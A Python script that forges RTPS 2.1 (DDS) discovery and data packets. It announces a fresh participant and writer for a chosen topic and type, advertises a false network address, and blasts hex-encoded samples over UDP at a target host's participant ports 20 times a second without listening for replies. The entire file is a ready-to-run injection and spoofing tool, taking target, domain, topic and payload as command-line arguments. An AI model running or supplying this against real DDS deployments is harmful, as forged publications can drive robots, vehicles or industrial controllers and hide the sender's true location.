"""Datagrams of RTPS 2.1 as somebody sends them who hears no answer: a participant, a writer of its own, and samples. The participant tells
an address of its own that is not true, so that who looks at what it tells alone believes it.

As a program: ADDRESS DOMAIN TOPIC TYPE HEX SECONDS TOLD sends these samples, with their encapsulation, 20 times a second."""
import os
import socket
import struct
import sys
import time

PARTICIPANT, WRITER = b"\0\0\1\xc1", b"\0\0\1\3"
SPDP_READER, SPDP_WRITER = b"\0\1\0\xc7", b"\0\1\0\xc2"
SEDP_READER, SEDP_WRITER = b"\0\0\3\xc7", b"\0\0\3\xc2"
PARTICIPANTS = 8  # of a host that are sent to


def data(reader, writer, number, payload):
    body = struct.pack("<HH", 0, 16) + reader + writer + struct.pack("<iI", 0, number) + payload
    return struct.pack("<BBH", 0x15, 5, len(body)) + body


def heartbeat(reader, writer, last, count):
    return struct.pack("<BBH", 0x07, 1, 28) + reader + writer + struct.pack("<iIiII", 0, 1, 0, last, count)


def time_of(now):
    return struct.pack("<BBHII", 0x09, 1, 8, int(now), int(now % 1 * 2**32))


def parameters(*pairs):
    """A list of parameters, each filled up to four bytes."""
    out = b"\0\3\0\0"
    for number, value in pairs:
        value += bytes(-len(value) % 4)
        out += struct.pack("<HH", number, len(value)) + value
    return out + struct.pack("<HH", 1, 0)


def text(words):
    return struct.pack("<I", len(words) + 1) + words.encode() + b"\0"


class Blind:
    """A participant that is made anew each time, and its one writer, which promises nothing."""

    def __init__(self, domain, topic, kind, told):
        self.port, prefix = 7400 + 250 * domain, b"\1\x0f" + os.urandom(10)
        self.head, self.count = b"RTPS\2\1\1\x0f" + prefix, 0
        here = struct.pack("<iI", 1, self.port + 99) + bytes(12) + socket.inet_aton(told)
        self.participant = parameters((0x15, b"\2\1"), (0x16, b"\1\x0f"), (0x50, prefix + PARTICIPANT), (0x32, here), (0x31, here),
                                      (0x02, struct.pack("<iI", 100, 0)), (0x58, struct.pack("<I", 0x3f)))
        self.writer = parameters((0x5a, prefix + WRITER), (0x50, prefix + PARTICIPANT), (0x05, text(topic)), (0x07, text(kind)),
                                 (0x1a, struct.pack("<IiI", 1, 0, 0)), (0x1d, struct.pack("<I", 0)))
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

    def send(self, address, sample):
        self.count += 1
        for port in range(self.port + 10, self.port + 10 + 2 * PARTICIPANTS, 2):
            self.socket.sendto(self.head + data(SPDP_READER, SPDP_WRITER, 1, self.participant), (address, port))
            self.socket.sendto(self.head + data(SEDP_READER, SEDP_WRITER, 1, self.writer) +
                               heartbeat(SEDP_READER, SEDP_WRITER, 1, self.count), (address, port))
            self.socket.sendto(self.head + time_of(time.time()) + data(bytes(4), WRITER, self.count, sample), (address, port + 1))


def main():
    address, domain, topic, kind, sample, seconds, told = sys.argv[1:]
    blind, end = Blind(int(domain), topic, kind, told), time.monotonic() + float(seconds)
    while time.monotonic() < end:
        blind.send(address, bytes.fromhex(sample))
        time.sleep(0.05)


if __name__ == "__main__":
    main()
